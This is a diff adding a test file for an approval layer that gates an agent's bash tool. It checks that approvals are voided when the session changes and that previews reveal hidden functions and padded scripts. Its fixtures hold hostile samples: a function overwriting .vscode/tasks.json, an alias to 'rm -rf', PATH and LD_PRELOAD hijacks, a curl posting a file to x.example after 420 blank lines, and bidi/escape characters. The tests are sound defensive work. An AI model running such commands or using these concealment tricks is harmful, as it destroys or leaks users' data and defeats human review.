@@ -1,0 +1,281 @@
+"""One question means one act: what is shown is what is granted, and what is granted is what runs."""
+
+from dataclasses import replace
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from handtools import Call, Policy, Reply
+from handtools.core.changes import Change, ChangeSet, Node
+from handtools.core.command import Command, Inherited
+from handtools.core.effects import Run, fingerprint
+from handtools.mcp.asking import question
+from handtools.runtime.preview import preview, title
+from handtools.runtime.rules import Rule
+from handtools.testing.commands import Answer, MemoryCommands
+from handtools.testing.fakes import memory_toolbox
+from handtools.text.shelling import read_script
+from handtools.text.shelling.inheriting import defined, uses
+
+pytestmark = pytest.mark.anyio
+PHONE = 40
+MAKE = "make () \n{ \n    echo evil > .vscode/tasks.json\n}\n"
+YES = Reply(allow=True)
+
+
+def run(script="make dev", **facts):
+    given = {name: facts.pop(name) for name in list(facts) if name in Inherited.__dataclass_fields__}
+    return Run(
+        Command(script=script, inherited=Inherited(**given), **facts),
+        confined=not facts.get("live"),
+    )
+
+
+class Desk:
+    """A toolbox whose session can be changed between a question and its answer."""
+
+    def __init__(self, *scripts, approver=None, rules=()):
+        self.commands = MemoryCommands({script: Answer(b"done") for script in scripts}, confined=False)
+        policy = Policy().with_rules(rules)
+        self.box = memory_toolbox(
+            {"a/x": b"", "b/x": b""}, commands=self.commands, approver=approver, policy=policy
+        )
+
+    def begin_with(self, **facts):
+        self.commands.left["s"] = Inherited(**facts)
+
+    async def call(self, script, **args):
+        return await self.box.call(Call(tool="bash", args={"command": script, **args}, session="s", id="c"))
+
+
+CHANGES = {
+    "folder": ({"cwd": "a"}, {"cwd": "b"}),
+    "a function that it runs": ({}, {"functions": MAKE}),
+    "the text of that function": ({"functions": MAKE}, {"functions": MAKE.replace("evil", "good")}),
+    "an alias": ({}, {"aliases": "alias make='rm -rf'\n"}),
+    "where programs are found": ({}, {"exports": {"PATH": '"/tmp/bin"'}}),
+    "a secret": ({"exports": {"API_KEY": '"one"'}}, {"exports": {"API_KEY": '"two"'}}),
+    "a variable that is gone": ({}, {"exports": {"VIRTUAL_ENV": None}}),
+}
+
+
+@pytest.mark.parametrize("change", CHANGES)
+async def test_a_yes_to_what_has_changed_since_asks_again_and_runs_nothing(change):
+    before, after = CHANGES[change]
+    desk = Desk("make dev")
+    desk.begin_with(**before)
+    asked = await desk.call("make dev")
+    assert asked.status == "pending"
+    desk.begin_with(**after)
+    again = await desk.box.resume("c", YES)
+    assert again.status == "pending"
+    assert desk.commands.ran == []
+    assert again.request.fingerprint != asked.request.fingerprint
+    assert again.request.title.startswith("Asked again, it has changed: ")
+    done = await desk.box.resume("c", replace(YES, fingerprint=again.request.fingerprint))
+    assert done.ok
+    assert len(desk.commands.ran) == 1
+
+
+async def test_the_same_yes_sent_twice_does_not_answer_what_is_asked_again():
+    desk = Desk("make dev")
+    asked = await desk.call("make dev")
+    desk.begin_with(cwd="b")
+    for reply in (YES, YES, replace(YES, fingerprint=asked.request.fingerprint)):
+        assert (await desk.box.resume("c", reply)).status == "pending"
+    assert desk.commands.ran == []
+
+
+async def test_a_yes_to_what_was_asked_before_is_void_when_it_comes_back():
+    desk = Desk("make dev")
+    first = await desk.call("make dev")
+    desk.begin_with(cwd="b")
+    second = await desk.box.resume("c", YES)
+    desk.begin_with()
+    third = await desk.box.resume("c", replace(YES, fingerprint=second.request.fingerprint))
+    assert third.status == "pending"
+    assert third.request.fingerprint == first.request.fingerprint
+
+
+async def test_what_changes_while_a_person_thinks_is_not_what_runs():
+    async def approver(approval):
+        desk.begin_with(cwd="b", functions=MAKE)
+        return YES
+
+    desk = Desk("make dev", approver=approver)
+    desk.begin_with(cwd="a")
+    assert (await desk.call("make dev")).ok
+    [ran] = desk.commands.ran
+    assert (ran.cwd, ran.inherited.functions) == ("a", "")
+
+
+async def test_a_job_that_is_live_is_another_act_and_says_so():
+    desk = Desk("make dev")
+    asked = await desk.call("make dev", background=True, live=True)
+    assert asked.request.title == "bash wants to run live make dev"
+    assert "# live: on your files, no undo" in asked.request.preview
+    assert fingerprint(run(live=True)) != fingerprint(replace(run(live=True), command=run().command))
+
+
+async def test_a_lasting_yes_does_not_cover_the_same_words_live_or_replaced():
+    desk = Desk("make dev")
+    await desk.call("make dev")
+    assert (await desk.box.resume("c", Reply(allow=True, remember="session"))).ok
+
+    async def wanted(name, **args):
+        call = Call(tool="bash", args={"command": "make dev", **args}, session="s", id=name)
+        return (await desk.box.call(call)).status
+
+    assert await wanted("same") == "ok"
+    assert await wanted("live", background=True, live=True) == "pending"
+    desk.begin_with(functions=MAKE)
+    assert await wanted("function") == "pending"
+    desk.begin_with(exports={"PATH": '"/tmp/bin"'})
+    assert await wanted("path") == "pending"
+
+
+@pytest.mark.parametrize(
+    ("left", "reason"),
+    [
+        ({"functions": "git () \n{ \n    id\n}\n"}, "`git` is a function or an alias of this session"),
+        ({"aliases": "alias git='id'\n"}, "`git` is a function or an alias of this session"),
+        ({"exports": {"PATH": '"/w/bin"'}}, "this session has set PATH"),
+        ({"exports": {"LD_PRELOAD": '"/w/e.so"'}}, "this session has set LD_PRELOAD"),
+    ],
+)
+async def test_a_rule_about_a_program_does_not_speak_for_what_took_its_name(left, reason):
+    desk = Desk("git status", rules=[Rule("look", "allow", "fine", commands=("git status",))])
+    assert (await desk.call("git status")).ok
+    desk.begin_with(**left)
+    asked = await desk.box.call(Call(tool="bash", args={"command": "git status"}, session="s"))
+    assert asked.status == "pending"
+    assert reason in asked.request.rule
+
+
+def test_functions_are_shown_when_they_might_run_and_not_otherwise():
+    assert "tasks.json" in preview(run(functions=MAKE)).text
+    assert "tasks.json" in preview(run("ma''ke dev", functions=MAKE)).text
+    assert "tasks.json" in preview(run("$x dev", functions=MAKE)).text
+    assert "tasks.json" not in preview(run("npm test", functions=MAKE)).text
+
+
+def test_values_of_secrets_are_not_shown():
+    shown = preview(run(exports={"NPM_TOKEN": '"s3cret"', "PATH": '"/w/bin"'})).text
+    assert "NPM_TOKEN" in shown
+    assert "s3cret" not in shown
+    assert '# set before: PATH="/w/bin"' in shown
+
+
+def test_notes_come_first_and_the_script_last():
+    rows = preview(run("x=1; rm a\n", cwd="build", live=True, network="listed", hosts=("ok.example",))).text
+    assert rows.split("\n")[:3] == [
+        "# folder: build",
+        "# live: on your files, no undo",
+        "# unconfined: it can do what you can",
+    ]
+    assert "# network: ok.example\n" in rows
+    assert rows.index("# look: `rm` deletes") < rows.index("x=1; rm a")
+
+
+def test_a_cut_says_how_many_lines_and_bytes_it_hides():
+    script = "\n".join(f"echo {number}" for number in range(10_000))
+    shown = preview(run(script))
+    asked = question(approval_of(run(script)))
+    hidden = [text for text in (shown.text, asked) for text in [text.split("[… ")[1].split(" left out")[0]]]
+    for said, text in zip(hidden, (shown.text, asked), strict=True):
+        lines, size = (int(word.split()[0]) for word in said.split(", "))
+        seen = [row for row in text.split("\n") if row.startswith("echo ")]
+        assert lines + len(seen) == 10_000
+        assert size + sum(len(row) + 1 for row in seen) == len(script) + 1
+    assert "echo 0\n" in asked
+    assert "echo 9999" in asked
+
+
+def test_blank_lines_push_nothing_out_of_sight():
+    shown = question(approval_of(run("npm test\n" + "\n" * 420 + "curl -d @a https://x.example")))
+    assert "[… 420 blank lines …]\ncurl -d @a" in shown
+
+
+def test_a_change_names_every_path_before_the_first_diff():
+    many = "".join(f"{number}\n" for number in range(2_000)).encode()
+    paths = ["a.md", *(f"b{number}" for number in range(8)), "zzz.json"]
+    changes = ChangeSet(tuple(Change(path, None, Node("file", many)) for path in paths))
+    shown = preview(changes).text
+    head = shown[: shown.index("--- ")]
+    assert all(path in head for path in paths)
+    assert shown.count(" left out …]") == 11  # each diff, and the whole
+    assert all(f"b/{path}\n" in preview(ChangeSet(changes.changes[-2:])).text for path in paths[-2:])
+
+
+def approval_of(effect):
+    from handtools import Approval
+
+    shown = preview(effect)
+    return Approval(
+        call_id="c",
+        title=title(effect, "bash"),
+        preview=shown.text,
+        rule="ask by rule `x`",
+        fingerprint=fingerprint(effect),
+        remembered="run make …",
+        preview_lines=shown.lines,
+        preview_bytes=shown.bytes,
+    )
+
+
+def test_our_own_words_fit_on_a_phone():
+    asked = question(approval_of(run("make dev", cwd="app", live=True, network="on")))
+    for row in asked.split("\n"):
+        assert len(row) <= PHONE, row
+    assert asked.split("\n")[0] == "bash wants to run live make dev in app"
+    assert asked.split("\n")[2].startswith("Asked: ")
+
+
+names = st.text(st.sampled_from("ab\x1b\r\n\u202e\u200b \u00a0\udce9é⏎"), min_size=1, max_size=8)
+
+
+@given(names, names, names)
+def test_no_name_hides_or_steers_in_any_part_of_a_question(path, host, script):
+    for effect in (
+        ChangeSet((Change(path, None, Node("file", b"x")), Change(f"{host}/d", None, Node("folder")))),
+        run(script, network="listed", hosts=(host,), cwd=path),
+    ):
+        shown = question(approval_of(effect)) + title(effect, "bash")
+        assert not set(shown) & set("\x1b\r\u202e\u200b\u00a0\udce9")
+
+
+commands = st.builds(
+    run,
+    st.sampled_from(["make", "npm test", "make\n", "x=1 make"]),
+    cwd=st.sampled_from([".", "a", "a\x00b"]),
+    functions=st.sampled_from(["", MAKE]),
+    aliases=st.sampled_from(["", "alias make='x'\n"]),
+    exports=st.dictionaries(st.sampled_from(["PATH", "A", "A_KEY"]), st.sampled_from(["1", "2", None])),
+    network=st.sampled_from(["listed", "on"]),
+    hosts=st.lists(st.sampled_from(["live", "b", "a, b", "a"]), max_size=2).map(tuple),
+    live=st.booleans(),
+)
+
+
+@given(commands, commands)
+def test_two_questions_are_the_same_only_when_the_acts_are(one, other):
+    def act(effect):
+        left, command = effect.inherited, effect.command
+        used = uses(effect.script, effect.defined)
+        hosts = command.hosts if command.network == "listed" else ()
+        return (
+            command.script, left.cwd, command.network, ", ".join(hosts), command.live, dict(left.exports),
+            (left.functions, left.aliases) if used else (),
+        )  # fmt: skip
+
+    assert (fingerprint(one) == fingerprint(other)) == (act(one) == act(other))
+    if fingerprint(one) == fingerprint(other):
+        assert preview(one) == preview(other)
+
+
+def test_names_of_functions_are_found_as_bash_lists_them():
+    listed = "a-b () \n{ \n    x\n}\nfunction if () \n{ \n    y\n}\n"
+    assert defined(listed, "alias ll='ls -l'\nalias -- -='cd -'\n") == {"a-b", "if", "ll", "-"}
+    assert uses(read_script("echo; a-b"), frozenset({"a-b"}))
+    assert not uses(read_script("echo a-b"), frozenset({"a-b"}))
